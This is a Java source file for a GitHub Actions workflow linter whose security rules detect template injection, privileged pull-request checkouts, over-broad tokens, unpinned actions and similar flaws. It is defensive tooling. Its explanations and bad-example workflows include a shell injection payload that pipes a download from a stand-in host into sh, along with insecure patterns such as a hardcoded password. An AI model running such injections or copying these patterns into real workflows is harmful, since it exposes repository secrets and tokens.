package dev.slipway.lint;

import dev.slipway.workflow.YamlNode;
import dev.slipway.workflow.expression.Shape;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.regex.Pattern;
import org.jspecify.annotations.Nullable;

/** Rules about what outsiders can make a workflow do, and what it lends to whom. */
final class SecurityRules {
  private static final Pattern COMMIT = Pattern.compile("[0-9a-f]{40}|[0-9a-f]{64}");
  private static final Pattern VERSION = Pattern.compile("v?[0-9]+([.][0-9A-Za-z_-]+)*");
  private static final String CHECKOUT = "actions/checkout";

  private SecurityRules() {}

  static List<Rule> all() {
    return List.of(
        INJECTION,
        UNTRUSTED,
        WRITE_ALL,
        NO_PERMISSIONS,
        BRANCH,
        UNPINNED,
        PERSISTED,
        INHERIT,
        FILES,
        CREDENTIALS,
        INSECURE,
        BOT,
        CONTAINS,
        ALL_SECRETS,
        PARSED_SECRETS,
        IMAGE,
        SELF_HOSTED,
        TRIGGER);
  }

  private static Rule rule(
      String id, Severity severity, Profile profile, String title, String... covers) {
    return Rule.of(id, Topic.SECURITY, severity, profile, title).covers(covers);
  }

  private static String workflow(String on, String steps) {
    return "on: "
        + on
        + "\npermissions: {}\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n"
        + steps;
  }

  private static final Rule INJECTION =
      rule(
              "template-injection",
              Severity.ERROR,
              Profile.DEFAULT,
              "Text that outsiders choose becomes part of a script",
              "zizmor:template-injection",
              "actionlint:expression")
          .why(
              """
              An expression in `run:` is replaced before the shell sees the script, so a title such as `"; curl evil | sh; "`
              is executed with the job's token and secrets. A variable is data to the shell, not program.
              """)
          .example(
              workflow("issues", "      - run: echo \"${{ github.event.issue.title }}\"\n"),
              workflow(
                  "issues",
                  "      - run: echo \"$TITLE\"\n"
                      + "        env:\n"
                      + "          TITLE: ${{ github.event.issue.title }}\n"))
          .check(SecurityRules::injection);

  private static void injection(LintFile file, Found found) {
    for (ExpressionUse use : file.expressions()) {
      StepNode step = use.step();
      if (step == null) {
        continue;
      }
      boolean script =
          use.key().equals("run")
              || (use.key().equals("script") && step.uses("actions/github-script"));
      List<String> source = script ? Taint.source(file, use) : null;
      if (source != null) {
        found.at(
            use,
            "'"
                + ExpressionUse.written(source)
                + "' is text that outsiders choose, and it becomes"
                + " part of this script",
            "put it into a variable under 'env:' and use that in the script, in quotes");
      }
    }
  }

  private static final Rule UNTRUSTED =
      rule(
              "untrusted-checkout",
              Severity.ERROR,
              Profile.DEFAULT,
              "A privileged workflow checks out the code of a pull request",
              "zizmor:dangerous-triggers")
          .why(
              """
              `pull_request_target` and `workflow_run` run with the repository's secrets and a token that may write. Building
              or testing the head of a pull request there hands both to whoever opened it.
              """)
          .example(
              workflow(
                  "pull_request_target",
                  "      - uses: actions/checkout@v6\n"
                      + "        with:\n"
                      + "          persist-credentials: false\n"
                      + "          ref: ${{ github.event.pull_request.head.sha }}\n"
                      + "      - run: make test\n"),
              workflow(
                  "pull_request",
                  "      - uses: actions/checkout@v6\n"
                      + "        with:\n"
                      + "          persist-credentials: false\n"
                      + "      - run: make test\n"))
          .check(SecurityRules::untrusted);

  private static boolean privileged(LintFile file) {
    return file.on("pull_request_target") || file.on("workflow_run");
  }

  private static void untrusted(LintFile file, Found found) {
    if (!privileged(file)) {
      return;
    }
    for (ExpressionUse use : file.expressions()) {
      StepNode step = use.step();
      if (step == null
          || !step.uses(CHECKOUT)
          || !(use.key().equals("ref") || use.key().equals("repository"))
          || !runsAfter(step)) {
        continue;
      }
      for (List<String> path : use.flows()) {
        String way = ExpressionUse.written(path).toLowerCase(Locale.ROOT);
        if (way.startsWith("github.event.pull_request.head.")
            || way.equals("github.head_ref")
            || way.equals("github.event.pull_request.merge_commit_sha")
            || way.startsWith("github.event.workflow_run.head_")) {
          found.at(
              use,
              "This checks out the code of a pull request in a workflow that has the repository's"
                  + " secrets and token",
              "use the trigger pull_request, or do nothing with what is checked out");
          break;
        }
      }
    }
  }

  /** Whether anything runs behind a step in its job. */
  private static boolean runsAfter(StepNode step) {
    JobNode job = step.job();
    return job != null && step.index() < job.steps().size() - 1;
  }

  private static final Rule WRITE_ALL =
      rule(
              "write-all-permissions",
              Severity.ERROR,
              Profile.DEFAULT,
              "A token that may do everything",
              "zizmor:excessive-permissions")
          .why("Every step, and every action that a step uses, may push, release and approve.")
          .example(
              "on: push\n"
                  + "permissions: write-all\n"
                  + "jobs:\n"
                  + "  test:\n"
                  + "    runs-on: ubuntu-latest\n"
                  + "    steps:\n"
                  + "      - run: make\n",
              "on: push\n"
                  + "permissions:\n"
                  + "  contents: read\n"
                  + "jobs:\n"
                  + "  test:\n"
                  + "    runs-on: ubuntu-latest\n"
                  + "    steps:\n"
                  + "      - run: make\n")
          .check((file, found) -> {
            writeAll(Trees.scalar(file.root(), "permissions"), found);
            for (JobNode job : file.jobs()) {
              writeAll(job.scalar("permissions"), found);
            }
          });

  private static void writeAll(YamlNode.@Nullable Scalar permissions, Found found) {
    if (permissions != null && permissions.text().equals("write-all")) {
      found.at(permissions, "The token may do everything", "name the scopes that are needed");
    }
  }

  private static final Rule NO_PERMISSIONS =
      rule(
              "missing-permissions",
              Severity.WARNING,
              Profile.STRICT,
              "A workflow that takes whatever permissions the repository gives",
              "zizmor:excessive-permissions")
          .why(
              """
              Without `permissions` the token has what the repository's settings say, in many that is write access to
              everything, and it changes when somebody changes the setting.
              """)
          .example(
              "on: push\n"
                  + "jobs:\n"
                  + "  test:\n"
                  + "    runs-on: ubuntu-latest\n"
                  + "    steps:\n"
                  + "      - run: make\n",
              "on: push\n"
                  + "permissions:\n"
                  + "  contents: read\n"
                  + "jobs:\n"
                  + "  test:\n"
                  + "    runs-on: ubuntu-latest\n"
                  + "    steps:\n"
                  + "      - run: make\n")
          .check(SecurityRules::missingPermissions);

  private static void missingPermissions(LintFile file, Found found) {
    YamlNode.Member jobs = Trees.member(file.root(), "jobs");
    if (jobs == null || Trees.get(file.root(), "permissions") != null || onlyCalled(file)) {
      return;
    }
    for (JobNode job : file.jobs()) {
      if (job.body().get("permissions") == null) {
        int line = jobs.key().start();
        found.at(
            Severity.WARNING,
            Confidence.HIGH,
            jobs.key().start(),
            jobs.key().end(),
            "Job '" + job.id() + "' has whatever permissions the repository's settings give",
            "add 'permissions:' with 'contents: read' above, and more where a job needs it",
            List.of("zizmor:excessive-permissions"),
            new Fix(
                "Let the token read only",
                Fix.Safety.UNSAFE,
                List.of(
                    new Edit(
                        line,
                        line,
                        "permissions:" + newline(file) + "  contents: read" + newline(file)))));
        return;
      }
    }
  }

  private static String newline(LintFile file) {
    return file.text().contains("\r\n") ? "\r\n" : "\n";
  }

  private static boolean onlyCalled(LintFile file) {
    YamlNode on = Trees.get(file.root(), "on");
    int events =
        on == null ? 0 : on.mapping() == null ? Trees.items(on).size() : Trees.members(on).size();
    return file.on("workflow_call") && events == 1;
  }

  private static final Rule BRANCH =
      rule(
              "action-from-branch",
              Severity.WARNING,
              Profile.DEFAULT,
              "An action taken from a branch that moves",
              "zizmor:unpinned-uses")
          .why(
              """
              A branch is whatever was pushed to it last: the workflow changes without a commit of yours, and whoever takes
              over the action's repository runs in your jobs.
              """)
          .example(
              workflow("push", "      - uses: some/action@main\n"),
              workflow("push", "      - uses: some/action@v2.1.0\n"))
          .check((file, found) -> uses(file, found, true));

  private static final Rule UNPINNED =
      rule(
              "unpinned-action",
              Severity.WARNING,
              Profile.STRICT,
              "An action whose version can be moved to another commit",
              "zizmor:unpinned-uses")
          .why("A tag can be moved; a commit's hash cannot. Several supply chains were broken so.")
          .example(
              workflow("push", "      - uses: some/action@v2\n"),
              workflow(
                  "push",
                  "      - uses: some/action@8f4b7f84864484a7bf31766abe9204da3cbe65b3 # v2.1.0\n"))
          .check((file, found) -> uses(file, found, false));

  private static void uses(LintFile file, Found found, boolean branches) {
    List<YamlNode.Scalar> uses = new ArrayList<>();
    for (StepNode step : file.steps()) {
      if (step.uses() != null) {
        uses.add(step.uses());
      }
    }
    for (JobNode job : file.jobs()) {
      YamlNode.Scalar call = job.scalar("uses");
      if (call != null) {
        uses.add(call);
      }
    }
    for (YamlNode.Scalar use : uses) {
      String text = use.text();
      int at = text.indexOf('@');
      if (at < 0
          || text.startsWith("./")
          || text.startsWith("$/")
          || text.startsWith("docker:")
          || text.contains("${{")) {
        continue;
      }
      String ref = text.substring(at + 1);
      boolean version = VERSION.matcher(ref).matches();
      boolean branch = BRANCHES.contains(ref.toLowerCase(Locale.ROOT));
      if (COMMIT.matcher(ref).matches()
          || (branches && (version || !branch))
          || (!branches && branch)) {
        continue;
      }
      found.at(
          use,
          branches
              ? "'" + ref + "' is a branch: what this runs can change with every push to it"
              : "'" + ref + "' can be moved to another commit",
          branches
              ? "name a released version, best the hash of its commit"
              : "name the commit's hash and keep the version in a comment behind it");
    }
  }

  private static final List<String> BRANCHES =
      List.of("main", "master", "develop", "dev", "trunk", "latest", "head", "next", "edge");

  private static final Rule PERSISTED =
      rule(
              "persisted-credentials",
              Severity.WARNING,
              Profile.STRICT,
              "A checkout leaves the token where every later step can read it",
              "zizmor:artipacked")
          .why(
              """
              `actions/checkout` keeps the token in the clone unless told not to; an artifact of the folder publishes it, and
              every later action can use it.
              """)
          .example(
              workflow("push", "      - uses: actions/checkout@v6\n      - run: make\n"),
              workflow(
                  "push",
                  "      - uses: actions/checkout@v6\n"
                      + "        with:\n"
                      + "          persist-credentials: false\n"
                      + "      - run: make\n"))
          .check(SecurityRules::persisted);

  private static void persisted(LintFile file, Found found) {
    for (StepNode step : file.steps()) {
      YamlNode.Scalar uses = step.uses();
      if (uses == null
          || !step.uses(CHECKOUT)
          || step.with("persist-credentials") != null
          || pushes(step)) {
        continue;
      }
      found.at(
          uses,
          "The token stays in the clone for every later step",
          "add 'persist-credentials: false' under 'with:'",
          persistFix(file, step, uses));
    }
  }

  private static boolean pushes(StepNode step) {
    JobNode job = step.job();
    if (job != null) {
      for (StepNode other : job.steps()) {
        String run = other.text("run");
        String uses = other.text("uses");
        if (run.contains("git push")
            || run.contains("git fetch")
            || run.contains("git pull")
            || run.contains("git submodule")
            || uses.contains("commit")
            || uses.contains("pages")
            || uses.contains("create-pull-request")
            || uses.contains("changesets")) {
          return true;
        }
      }
    }
    return false;
  }

  private static @Nullable Fix persistFix(LintFile file, StepNode step, YamlNode.Scalar uses) {
    YamlNode.Member with = Trees.member(step.body(), "with");
    YamlNode.Mapping inputs = with == null ? null : with.value().mapping();
    int column = step.body().at().column() - 1;
    String newline = newline(file);
    int lineEnd = file.text().indexOf('\n', uses.end());
    if (lineEnd < 0 || file.text().startsWith("{", uses.start() - 1)) {
      return null;
    }
    lineEnd -= file.text().charAt(lineEnd - 1) == '\r' ? 1 : 0;
    Edit edit;
    if (with == null) {
      String indent = " ".repeat(column);
      edit =
          new Edit(
              lineEnd,
              lineEnd,
              newline + indent + "with:" + newline + indent + "  persist-credentials: false");
    } else if (inputs != null
        && !inputs.members().isEmpty()
        && inputs.at().line() > with.key().at().line()) {
      YamlNode.Scalar first = inputs.members().getFirst().key();
      edit =
          new Edit(
              first.start(),
              first.start(),
              "persist-credentials: false" + newline + " ".repeat(inputs.at().column() - 1));
    } else {
      return null;
    }
    return new Fix("Do not keep the token in the clone", Fix.Safety.UNSAFE, List.of(edit));
  }

  private static final Rule INHERIT =
      rule(
              "inherited-secrets",
              Severity.WARNING,
              Profile.STRICT,
              "A called workflow gets every secret",
              "zizmor:secrets-inherit")
          .why("The called workflow needs some secrets; inheriting gives it all, also future ones.")
          .example(
              "on: push\n"
                  + "jobs:\n"
                  + "  call:\n"
                  + "    uses: o/r/.github/workflows/w.yml@v1\n"
                  + "    secrets: inherit\n",
              "on: push\n"
                  + "jobs:\n"
                  + "  call:\n"
                  + "    uses: o/r/.github/workflows/w.yml@v1\n"
                  + "    secrets:\n"
                  + "      token: ${{ secrets.TOKEN }}\n")
          .check((file, found) -> {
            for (JobNode job : file.jobs()) {
              YamlNode.Scalar secrets = job.scalar("secrets");
              if (job.call()
                  && secrets != null
                  && secrets.text().equals("inherit")
                  && !job.text("uses").startsWith("./")
                  && !job.text("uses").startsWith("$/")) {
                found.at(
                    secrets,
                    "'" + job.text("uses") + "' gets every secret",
                    "name the secrets that it needs");
              }
            }
          });

  private static final Rule FILES =
      rule(
              "environment-injection",
              Severity.ERROR,
              Profile.DEFAULT,
              "Text that outsiders choose is written to GITHUB_ENV or GITHUB_PATH",
              "zizmor:github-env")
          .why(
              """
              A line more in that file sets any variable, `LD_PRELOAD` or `BASH_ENV` for instance, for all steps that follow.
              """)
          .example(
              workflow(
                  "pull_request_target",
                  "      - run: echo \"TITLE=$TITLE\" >> \"$GITHUB_ENV\"\n"
                      + "        env:\n"
                      + "          TITLE: ${{ github.event.pull_request.title }}\n"),
              workflow(
                  "pull_request_target",
                  "      - run: echo \"$TITLE\" | wc -c\n"
                      + "        env:\n"
                      + "          TITLE: ${{ github.event.pull_request.title }}\n"))
          .check(SecurityRules::environmentFiles);

  private static void environmentFiles(LintFile file, Found found) {
    for (ExpressionUse use : file.expressions()) {
      StepNode step = use.step();
      List<String> path = use.path();
      if (step == null
          || step.run() == null
          || path.size() < 2
          || !path.get(path.size() - 2).equals("env")) {
        continue;
      }
      List<String> source = Taint.source(file, use);
      YamlNode.Scalar run = step.run();
      if (source == null || run == null) {
        continue;
      }
      String name = path.getLast();
      int at = 0;
      for (String line : run.text().split("\n", -1)) {
        boolean writes =
            line.contains(">>") && (line.contains("GITHUB_ENV") || line.contains("GITHUB_PATH"));
        if (writes && (line.contains("$" + name) || line.contains("${" + name + "}"))) {
          found.at(
              run,
              at,
              at + line.length(),
              "'"
                  + ExpressionUse.written(source)
                  + "' is text that outsiders choose, and it is"
                  + " written to the environment of later steps",
              "pass it on as an output, and read it through 'env:' where it is needed",
              null);
        }
        at += line.length() + 1;
      }
    }
  }

  private static final Rule CREDENTIALS =
      rule(
              "hardcoded-credentials",
              Severity.ERROR,
              Profile.DEFAULT,
              "A password in the workflow file",
              "zizmor:hardcoded-container-credentials",
              "actionlint:credentials")
          .why("Everybody who can read the repository, now or ever, has it.")
          .example(
              "on: push\n"
                  + "jobs:\n"
                  + "  test:\n"
                  + "    runs-on: ubuntu-latest\n"
                  + "    container:\n"
                  + "      image: r.example/i:1\n"
                  + "      credentials:\n"
                  + "        username: u\n"
                  + "        password: hunter2\n"
                  + "    steps:\n"
                  + "      - run: make\n",
              "on: push\n"
                  + "jobs:\n"
                  + "  test:\n"
                  + "    runs-on: ubuntu-latest\n"
                  + "    container:\n"
                  + "      image: r.example/i:1\n"
                  + "      credentials:\n"
                  + "        username: u\n"
                  + "        password: ${{ secrets.PASSWORD }}\n"
                  + "    steps:\n"
                  + "      - run: make\n")
          .check((file, found) -> {
            for (JobNode job : file.jobs()) {
              credentials(Trees.get(job.body(), "container"), found);
              for (YamlNode.Member service : Trees.members(Trees.get(job.body(), "services"))) {
                credentials(service.value(), found);
              }
            }
          });

  private static void credentials(@Nullable YamlNode container, Found found) {
    YamlNode.Scalar password = Trees.scalar(Trees.get(container, "credentials"), "password");
    if (password != null && !password.text().isBlank() && !password.text().contains("${{")) {
      found.at(
          password, "The password stands in the file", "make it a secret: ${{ secrets.NAME }}");
    }
  }

  private static final Rule INSECURE =
      rule(
              "insecure-commands",
              Severity.ERROR,
              Profile.DEFAULT,
              "Commands in logs that set variables are switched on again",
              "zizmor:insecure-commands")
          .why("Whatever a program prints, a test's output for instance, can then set variables.")
          .example(
              "on: push\n"
                  + "env:\n"
                  + "  ACTIONS_ALLOW_UNSECURE_COMMANDS: true\n"
                  + "jobs:\n"
                  + "  test:\n"
                  + "    runs-on: ubuntu-latest\n"
                  + "    steps:\n"
                  + "      - run: make\n",
              "on: push\n"
                  + "jobs:\n"
                  + "  test:\n"
                  + "    runs-on: ubuntu-latest\n"
                  + "    steps:\n"
                  + "      - run: make\n")
          .check((file, found) -> {
            insecure(file.root(), found);
            for (JobNode job : file.jobs()) {
              insecure(job.body(), found);
            }
            for (StepNode step : file.steps()) {
              insecure(step.body(), found);
            }
          });

  private static void insecure(@Nullable YamlNode owner, Found found) {
    YamlNode.Scalar value =
        Trees.scalar(Trees.get(owner, "env"), "ACTIONS_ALLOW_UNSECURE_COMMANDS");
    if (value != null && Trees.is(value, true)) {
      found.at(
          value,
          "Programs may set variables by what they print",
          "write to $GITHUB_ENV and $GITHUB_PATH instead");
    }
  }

  private static final Rule BOT =
      rule(
              "spoofable-actor",
              Severity.ERROR,
              Profile.DEFAULT,
              "A check of who started the run that others can pass",
              "zizmor:bot-conditions")
          .why(
              """
              `github.actor` is whoever caused the last event. Somebody who pushes to a bot's branch, or makes the bot touch
              theirs, passes the check with their own code.
              """)
          .example(
              workflow(
                  "pull_request_target",
                  "      - if: github.actor == 'dependabot[bot]'\n"
                      + "        run: gh pr merge --auto\n"),
              workflow(
                  "pull_request_target",
                  "      - if: github.event.pull_request.user.login == 'dependabot[bot]'\n"
                      + "        run: gh pr merge --auto\n"))
          .check(SecurityRules::bots);

  private static void bots(LintFile file, Found found) {
    if (!privileged(file) && !file.on("issue_comment")) {
      return;
    }
    for (ExpressionUse use : file.expressions()) {
      if (use.key().equals("if") && comparesBot(use.expression().shape())) {
        found.at(
            use,
            "Whoever caused the last event need not be who wrote the code",
            "compare github.event.pull_request.user.login");
      }
    }
  }

  private static boolean comparesBot(Shape shape) {
    if (!(shape instanceof Shape.Operation operation)) {
      return false;
    }
    if (operation.operator().equals("==")) {
      boolean actor = false;
      boolean bot = false;
      for (Shape operand : operation.operands()) {
        if (operand instanceof Shape.Path path) {
          String way = ExpressionUse.written(path.names()).toLowerCase(Locale.ROOT);
          actor |= way.equals("github.actor") || way.equals("github.triggering_actor");
        }
        bot |=
            operand instanceof Shape.Literal literal && literal.value().toText().endsWith("[bot]");
      }
      return actor && bot;
    }
    for (Shape operand : operation.operands()) {
      if (comparesBot(operand)) {
        return true;
      }
    }
    return false;
  }

  private static final Rule CONTAINS =
      rule(
              "unsound-contains",
              Severity.WARNING,
              Profile.DEFAULT,
              "contains() looks for a part of a text where a list was meant",
              "zizmor:unsound-contains")
          .why(
              """
              `contains('refs/heads/main refs/heads/dev', github.ref)` is also true for a branch called `mai`, which anybody
              who can push or fork may create.
              """)
          .example(
              workflow(
                  "push",
                  "      - if: contains('refs/heads/main refs/heads/dev', github.ref)\n"
                      + "        run: make\n"),
              workflow(
                  "push",
                  "      - if: contains(fromJSON('[\"refs/heads/main\", \"refs/heads/dev\"]'),"
                      + " github.ref)\n"
                      + "        run: make\n"))
          .check((file, found) -> {
            for (ExpressionUse use : file.expressions()) {
              if (partOfLiteral(use.expression().shape())) {
                found.at(
                    use,
                    "A part of one of these names passes too",
                    "look in a list: contains(fromJSON('[\"a\", \"b\"]'), …)");
              }
            }
          });

  private static boolean partOfLiteral(Shape shape) {
    if (shape instanceof Shape.Call call) {
      if (call.function().equals("contains")
          && call.arguments().size() == 2
          && call.arguments().get(0) instanceof Shape.Literal literal
          && call.arguments().get(1) instanceof Shape.Path path
          && literal.value().toText().strip().contains(" ")) {
        String way = ExpressionUse.written(path.names()).toLowerCase(Locale.ROOT);
        return way.equals("github.ref")
            || way.equals("github.ref_name")
            || way.equals("github.head_ref")
            || way.equals("github.base_ref")
            || way.equals("github.actor")
            || way.startsWith("github.event.");
      }
      for (Shape argument : call.arguments()) {
        if (partOfLiteral(argument)) {
          return true;
        }
      }
    }
    if (shape instanceof Shape.Operation operation) {
      for (Shape operand : operation.operands()) {
        if (partOfLiteral(operand)) {
          return true;
        }
      }
    }
    return false;
  }

  private static final Rule ALL_SECRETS =
      rule(
              "whole-secrets-context",
              Severity.WARNING,
              Profile.DEFAULT,
              "All secrets go where a few are needed",
              "zizmor:overprovisioned-secrets")
          .why("A step that gets `toJSON(secrets)` gets every secret, also those added later.")
          .example(
              workflow(
                  "push",
                  "      - run: ./deploy\n        env:\n          ALL: ${{ toJSON(secrets) }}\n"),
              workflow(
                  "push",
                  "      - run: ./deploy\n"
                      + "        env:\n"
                      + "          TOKEN: ${{ secrets.DEPLOY_TOKEN }}\n"))
          .check((file, found) -> {
            for (ExpressionUse use : file.expressions()) {
              for (List<String> path : use.flows()) {
                if (path.size() == 1 && path.getFirst().equals("secrets")) {
                  found.at(use, "Every secret is handed over here", "name the ones needed");
                  break;
                }
              }
            }
          });

  private static final Rule PARSED_SECRETS =
      rule(
              "unmasked-secret",
              Severity.WARNING,
              Profile.DEFAULT,
              "A part of a secret, which logs do not mask",
              "zizmor:unredacted-secrets")
          .why("Only the whole secret is masked in logs; a member of it read by fromJSON is not.")
          .example(
              workflow(
                  "push",
                  "      - run: ./deploy\n"
                      + "        env:\n"
                      + "          KEY: ${{ fromJSON(secrets.CONFIG).key }}\n"),
              workflow(
                  "push",
                  "      - run: ./deploy\n"
                      + "        env:\n"
                      + "          KEY: ${{ secrets.CONFIG_KEY }}\n"))
          .check((file, found) -> {
            for (ExpressionUse use : file.expressions()) {
              if (parsesSecret(use.expression().shape())) {
                found.at(
                    use,
                    "What is read out of this secret is not masked in logs",
                    "make each value a secret of its own");
              }
            }
          });

  private static boolean parsesSecret(Shape shape) {
    List<Shape> below = List.of();
    if (shape instanceof Shape.Call call) {
      if (call.function().equals("fromjson")
          && call.arguments().getFirst() instanceof Shape.Path path
          && path.names().getFirst().equals("secrets")) {
        return true;
      }
      below = call.arguments();
    } else if (shape instanceof Shape.Operation operation) {
      below = operation.operands();
    } else if (shape instanceof Shape.Path path) {
      below = path.inner();
    }
    for (Shape operand : below) {
      if (parsesSecret(operand)) {
        return true;
      }
    }
    return false;
  }

  private static final Rule IMAGE =
      rule(
              "unpinned-image",
              Severity.WARNING,
              Profile.STRICT,
              "A container image that changes under the same name",
              "zizmor:unpinned-images")
          .why("`latest`, or no tag at all, is another image tomorrow: a run cannot be repeated.")
          .example(
              "on: push\n"
                  + "jobs:\n"
                  + "  test:\n"
                  + "    runs-on: ubuntu-latest\n"
                  + "    container: node\n"
                  + "    steps:\n"
                  + "      - run: make\n",
              "on: push\n"
                  + "jobs:\n"
                  + "  test:\n"
                  + "    runs-on: ubuntu-latest\n"
                  + "    container: node:24.1.0\n"
                  + "    steps:\n"
                  + "      - run: make\n")
          .check((file, found) -> {
            for (JobNode job : file.jobs()) {
              image(Trees.get(job.body(), "container"), found);
              for (YamlNode.Member service : Trees.members(Trees.get(job.body(), "services"))) {
                image(service.value(), found);
              }
            }
          });

  private static void image(@Nullable YamlNode container, Found found) {
    YamlNode.Scalar image =
        container != null && container.mapping() != null
            ? Trees.scalar(container, "image")
            : Trees.scalar(container);
    if (image == null || image.text().isBlank() || image.text().contains("${{")) {
      return;
    }
    String name = image.text().substring(image.text().lastIndexOf('/') + 1);
    if ((!name.contains(":") && !name.contains("@")) || name.endsWith(":latest")) {
      found.at(image, "This image is another one tomorrow", "name a version, best with its digest");
    }
  }

  private static final Rule SELF_HOSTED =
      rule(
              "self-hosted-on-pull-request",
              Severity.WARNING,
              Profile.AUDIT,
              "Pull requests run on a machine of one's own",
              "zizmor:self-hosted-runner")
          .why("Code from a fork may stay on the machine and see what later jobs do there.")
          .example(
              "on: pull_request\n"
                  + "jobs:\n"
                  + "  test:\n"
                  + "    runs-on: self-hosted\n"
                  + "    steps:\n"
                  + "      - run: make\n",
              "on: pull_request\n"
                  + "jobs:\n"
                  + "  test:\n"
                  + "    runs-on: ubuntu-latest\n"
                  + "    steps:\n"
                  + "      - run: make\n")
          .check((file, found) -> {
            if (!file.on("pull_request") && !file.on("pull_request_target")) {
              return;
            }
            for (JobNode job : file.jobs()) {
              for (YamlNode item : Trees.items(Trees.get(job.body(), "runs-on"))) {
                YamlNode.Scalar label = item.scalar();
                if (label != null && label.text().equals("self-hosted")) {
                  found.at(
                      label,
                      "Pull requests run on a machine of one's own",
                      "use machines that are thrown away after each job");
                }
              }
            }
          });

  private static final Rule TRIGGER =
      rule(
              "privileged-trigger",
              Severity.WARNING,
              Profile.AUDIT,
              "A trigger by which outsiders start a privileged run",
              "zizmor:dangerous-triggers")
          .why(
              "Such runs have secrets and a writing token; every step must be read with that in"
                  + " mind.")
          .example(
              workflow("pull_request_target", "      - run: make\n"),
              workflow("pull_request", "      - run: make\n"))
          .check(SecurityRules::triggers);

  private static void triggers(LintFile file, Found found) {
    YamlNode on = Trees.get(file.root(), "on");
    List<YamlNode.Scalar> names = new ArrayList<>();
    if (on != null && on.mapping() != null) {
      for (YamlNode.Member member : Trees.members(on)) {
        names.add(member.key());
      }
    } else {
      for (YamlNode item : Trees.items(on)) {
        YamlNode.Scalar name = item.scalar();
        if (name != null) {
          names.add(name);
        }
      }
    }
    for (YamlNode.Scalar name : names) {
      if (name.text().equals("pull_request_target") || name.text().equals("workflow_run")) {
        found.at(
            name,
            "Outsiders can start this workflow with the repository's secrets and token",
            "see whether pull_request would do");
      }
    }
  }
}
